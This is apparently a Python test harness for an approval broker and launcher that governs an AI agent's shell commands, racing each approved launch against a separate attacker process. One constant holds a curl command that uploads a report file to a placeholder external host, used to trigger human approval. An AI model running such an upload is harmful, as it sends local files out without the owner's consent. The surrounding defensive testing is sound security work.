"""A broker, its queue and the real launcher in one process, and an attacker in another: one trial after the other.

A trial asks for an action as it is, gets a person's yes, and has it launched, while from a random moment on somebody
changes everything that it depends on. Only the ledger's disk, and the socket between launcher and daemon, are left out.
"""

from __future__ import annotations

import asyncio
import os
import random
import shlex
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import msgspec

from approvals.circle import people
from interlock.approvals.patience import Limits
from interlock.approvals.queue import Queue
from interlock.approvals.request import Vote
from interlock.broker.broker import Answer, Broker
from interlock.broker.clock import Clock, stamp
from interlock.broker.config import Config
from interlock.broker.gitcall import GitCall
from interlock.broker.halting import Halting
from interlock.broker.judge import Person
from interlock.broker.launching import Launching
from interlock.broker.sealing import Sealer
from interlock.containment.tiers import Name, Tier, probed
from interlock.daemon.bound import BoundRuns
from interlock.daemon.rules import RuleBook
from interlock.daemon.server import Peer
from interlock.halt.book import Book
from interlock.model.action import Action, Principal
from interlock.model.errors import Refused

LAUNCHER = Path(sys.executable).with_name("interlock-run")
_US = Peer(os.getpid(), os.getuid())
ATTACKER = Path(__file__).with_name("attacker.py")
NEVER = "if [ -e /nowhere ]; then curl -T report.txt https://unknown.example; fi"  # why a person is asked


class Result(NamedTuple):
    """What came of a trial: whether anything ran, and what it said."""

    ran: bool
    out: str


class _Book:
    """A ledger that keeps nothing but a count: ten thousand trials write some hundred thousand entries."""

    def __init__(self) -> None:
        self.size = 0

    async def record(self, kind: str, body: dict[str, Any], *, durable: bool = True) -> int:
        del kind, body, durable
        self.size += 1
        return self.size - 1


class _Rules(RuleBook):
    """The real rule book; only its patience with those who ask a lot is endless."""

    def config(self, workspace: str) -> Config:
        found = super().config(workspace)
        endless = msgspec.structs.replace(found.approvals, limits=Limits(0, 0, 0))
        return msgspec.structs.replace(found, approvals=endless, hold_seconds=0)


class House:
    """One broker over one base directory; `project` is the workspace."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.project = base / "user" / "project"
        (self.project / ".git").mkdir(parents=True)
        self.orders = Book()
        self.variables = {"PATH": "/usr/bin:/bin", "HOME": str(base / "user")}
        self.outer: dict[str, str] = {}  # what is in the launcher's environment and was not in the hook's
        self.book = _Book()
        self.rules = _Rules(base / "config", organisation=None, report=lambda *_: None)
        self.queue = Queue(self.book.record, now=Clock().stamp, known=people())
        ran = subprocess.run([LAUNCHER, "--probe", str(base)], capture_output=True, text=True, check=True)
        facts = {**probed(msgspec.convert({"status": 0, "said": ran.stdout}, _Said)), "launcher": str(LAUNCHER)}
        tier = Tier(name=Name.OVERLAY, place=str(base), facts=tuple(sorted(facts.items())))
        self.bound = BoundRuns(run=base / "run", place=base / "bound", tier=tier)
        self.broker = Broker(
            ledger=self.book, rules=self.rules, queue=self.queue, clock=Clock(),
            halting=Halting(self.orders, Clock(), Person("owner", str(base / "user"), ()), self.book.record),
        )  # fmt: skip
        self.broker.launching = Launching(Sealer(GitCall()), self.bound)
        self.bound.launch, self.bound.landed = self.broker.launch, self.broker.landed
        self._number = 0

    def write(self, name: str, text: str, mode: int = 0o755) -> Path:
        path = self.project / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(mode)
        return path

    def environment(self) -> bytes:
        return b"".join(os.fsencode(f"{name}={value}\0") for name, value in self.variables.items())

    def action(self, command: str, cwd: str = "") -> Action:
        """The action in a session of its own: what one trial leaves behind is nothing to the next."""
        self._number += 1
        principal = Principal(agent="claude", session=f"s{self._number}")
        return Action(tool="Bash", input={"command": command}, cwd=cwd or str(self.project), principal=principal)

    async def propose(self, action: Action, *, rewrites: bool = True) -> Answer:
        return await self.broker.propose(action, rewrites=rewrites, environment=self.environment)

    async def approved(self, action: Action, *, rewrites: bool = True) -> None:
        """Ask, and say yes. What an earlier trial still asks is taken back: too many open questions are refused."""
        await self.queue.withdraw(lambda _: True, "the trial is over")
        answer = await self.propose(action, rewrites=rewrites)
        assert answer.request is not None, answer
        vote = Vote("owner", Clock().stamp(), strong=True)
        await self.queue.approve(answer.request, vote, execute_by=stamp(time.time() + 900))

    async def launch(self, answer: Answer, before: Callable[[], None] = lambda: None) -> Result:
        """What the agent's shell and the launcher do with the answer."""
        if not answer.released:
            return Result(False, "")
        assert answer.command, f"released to be started by the agent, bound to nothing: {answer}"
        ticket = shlex.split(answer.command.partition(";")[0])[-1]
        try:
            raw = await self.bound.open(ticket, _US)
        except Refused:
            return Result(False, "")
        plan = self.base / "plan"
        plan.write_bytes(raw)
        before()
        done = self.spawn([str(LAUNCHER), "--bound-plan", str(plan)], str(self.project))
        await self.bound.close(ticket, done.returncode, _US, drifted=done.returncode == 125)
        return Result(done.returncode != 125, done.stdout + done.stderr)

    def spawn(self, argv: list[str], cwd: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            argv, cwd=cwd, env=self.variables | self.outer, capture_output=True, text=True, timeout=60, check=False,
            stdin=subprocess.DEVNULL, errors="replace",
        )  # fmt: skip


class _Said(msgspec.Struct):
    status: int
    said: str


class Attack:
    """The attacker of one class, as a process."""

    def __init__(self, kind: str, root: Path) -> None:
        self._process = subprocess.Popen(
            [sys.executable, "-I", str(ATTACKER), kind, str(root)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            text=True,
        )  # fmt: skip

    def say(self, word: str) -> None:
        assert self._process.stdin is not None
        assert self._process.stdout is not None
        print(word, file=self._process.stdin, flush=True)
        assert self._process.stdout.readline() == "ok\n"

    def close(self) -> None:
        self._process.kill()
        self._process.communicate()


async def raced(house: House, attack: Attack, command: str, cwd: str, chance: random.Random) -> Result:
    """One trial against an attacker that begins at a random moment: after the yes, the ticket, or the opening."""
    attack.say("calm")
    action = house.action(command, cwd)
    await house.approved(action)
    moment = chance.randrange(3)
    go = f"go {chance.randrange(1 << 30)}"
    if moment == 0:
        attack.say(go)
    answer = await house.propose(action)
    if moment == 1:
        attack.say(go)
    return await house.launch(answer, (lambda: attack.say(go)) if moment == 2 else lambda: None)


async def ordered(house: House, command: str, change: Callable[[], None], chance: random.Random) -> tuple[Result, bool]:
    """One trial against a single change that another thread makes; whether that was complete before the opening."""
    action = house.action(command)
    await house.approved(action)
    delay, ended = chance.random() * 0.012, [float("inf")]

    def act() -> None:
        time.sleep(delay)
        change()
        ended[0] = time.monotonic()

    thread = threading.Thread(target=act)
    thread.start()
    await asyncio.sleep(chance.random() * 0.012)
    answer = await house.propose(action)
    began = time.monotonic()
    result = await house.launch(answer)
    thread.join()
    return result, ended[0] < began
